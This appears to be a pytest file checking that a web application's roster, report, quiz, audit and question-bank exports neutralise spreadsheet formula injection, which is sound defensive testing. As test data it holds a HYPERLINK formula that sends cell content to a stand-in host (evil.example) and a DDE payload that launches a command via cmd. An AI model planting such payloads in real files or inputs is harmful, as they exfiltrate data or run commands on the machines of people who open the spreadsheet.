"""Formula injection through exports: text typed into the site reaches Excel as text, never as a formula.

A secretary names a member ``=HYPERLINK(...)``; the office opens the roster or the report in Excel.
Every CSV cell of text starting with ``=``, ``+``, ``-``, ``@``, tab or CR carries OWASP's leading
apostrophe; every XLSX cell of text is a string cell (no ``<f>`` in the sheet's XML). Numbers stay
numbers, and the files that are imported again (roster, question bank) come back unchanged.
"""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.audit.services import AuditFilter, export_events, record_audit
from app.auth.models import User
from app.extensions import db
from app.org import roster
from app.quizzes.services import attempts, banks, statistics
from app.reports import exports
from app.reports.services import build_unit_report
from app.spreadsheets import InertCsvWriter
from tests.factories.auth import make_user
from tests.factories.quizzes import T0, make_bank, make_quiz, single
from tests.factories.reports import ON, YEAR
from tests.reports.conftest import year_of_study  # noqa: F401 (a fixture)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _rename(username: str, name: str) -> None:
    """What a secretary's member form writes: the display name as typed."""
    db.session.scalar(select(User).where(User.username == username)).display_name = name
    db.session.commit()


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_csv_inert(text: str, payloads: list[str]) -> None:
    cells = csv_cells(text)
    for payload in payloads:
        assert payload not in cells, f"{payload!r} written as-is"
        assert "'" + payload in cells, f"{payload!r} not found with its apostrophe"
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


def assert_xlsx_inert(data: bytes, payloads: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        xml = "".join(archive.read(name).decode() for name in sheets)
    assert not re.search(r"<f[ >]", xml), "a formula in the workbook"
    workbook = load_workbook(io.BytesIO(data))
    cells = {cell.value: cell.data_type for sheet in workbook for row in sheet.iter_rows() for cell in row}
    for payload in payloads:
        assert cells.get(payload) == "s", f"{payload!r} not written as a string"
    assert "f" not in cells.values()


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_roster_export_writes_names_as_text_and_imports_back_unchanged(app, world, extension):
    with app.app_context():
        _rename("member_a", HYPERLINK)
        _rename("member_a2", DDE)
        db.session.scalar(select(User).where(User.username == "sec_a")).phone = "+86 13800000001"
        db.session.commit()
        data = roster.export_roster(roster.members_for_export(None), f"roster.{extension}")
        if extension == "csv":
            assert_csv_inert(data.decode("utf-8-sig"), [HYPERLINK, DDE, "+86 13800000001"])
        else:
            assert_xlsx_inert(data, [HYPERLINK, DDE])
        report = roster.import_roster(data, f"roster.{extension}", actor=None)
        assert report.ok and report.created == [] and report.updated == []
        assert db.session.scalar(select(User.display_name).where(User.username == "member_a")) == HYPERLINK
        assert db.session.scalar(select(User.phone).where(User.username == "sec_a")) == "+86 13800000001"


@pytest.mark.usefixtures("year_of_study")
def test_unit_report_exports_write_names_as_text_and_numbers_as_numbers(app, world):
    with app.app_context():
        _rename("member_a", HYPERLINK)
        _rename("sec_a", DDE)
        report = build_unit_report(world.unit_a1, YEAR, on=ON)
        assert_csv_inert(exports.report_csv(report, "members"), [HYPERLINK, DDE])
        data = exports.report_xlsx(report)
    assert_xlsx_inert(data, [HYPERLINK, DDE])
    members = load_workbook(io.BytesIO(data))["成员学时"]
    hours = {row[1].value: row[3] for row in members.iter_rows(min_row=2)}
    assert hours[HYPERLINK].value == 11 and hours[HYPERLINK].data_type == "n"


def test_numbers_stay_numbers_and_every_trigger_character_is_neutralised_in_csv():
    buffer = io.StringIO()
    InertCsvWriter(buffer).writerow([-1.0, -2, "-1", "+1", "@A1", "\t=1", "\r=1", "=1", "a=1", "１"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "-1.0",
        "-2",
        "'-1",
        "'+1",
        "'@A1",
        "'\t=1",
        "'\r=1",
        "'=1",
        "a=1",
        "１",
    ]


def test_quiz_results_export_writes_names_as_text(app):
    with app.app_context():
        quiz = make_quiz(questions=[single()], attempts_allowed=1)
        for username, name in (("m1", HYPERLINK), ("m2", DDE)):
            member = make_user(username, name=name)
            attempt = attempts.start_attempt(quiz, member, now=T0)
            attempts.submit_attempt(attempt, member, {}, attempt.revision, now=T0)
        data = statistics.results_workbook(quiz)
    assert_xlsx_inert(data, [HYPERLINK, DDE])


def test_audit_export_writes_recorded_text_inert(app, world):
    with app.app_context():
        admin = db.session.get(User, world.admin)
        record_audit(admin, "member.update", "user", HYPERLINK, {"name": DDE})
        record_audit(admin, "member.update", "user", "-1")
        db.session.commit()
        text = export_events(admin, AuditFilter())
    assert_csv_inert(text, [HYPERLINK, "-1"])


def test_question_bank_excel_export_writes_text_and_imports_back_unchanged(app):
    with app.app_context():
        first = make_bank("甲")
        question = single(text=HYPERLINK)
        question.answers[1]["text"] = DDE
        banks.add_question(first, question)
        exported = banks.export_excel(first)
        assert_xlsx_inert(exported, [HYPERLINK, DDE])
        second = make_bank("乙")
        assert banks.import_excel(second, exported).ok
        assert load_workbook(io.BytesIO(banks.export_excel(second)))["题库"]["B2"].value == HYPERLINK
        assert _values(banks.export_excel(second)) == _values(exported)


def _values(data: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))


def test_every_export_goes_through_the_inert_writers():
    """A new export cannot forget the rule: only app/spreadsheets.py makes CSV writers or saves workbooks."""
    root = Path(__file__).resolve().parents[2] / "app"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheets.py"
        and re.search(r"csv\.(writer|DictWriter)\(|\.save\((buffer|output|io\.)", path.read_text())
    ]
    assert offenders == []
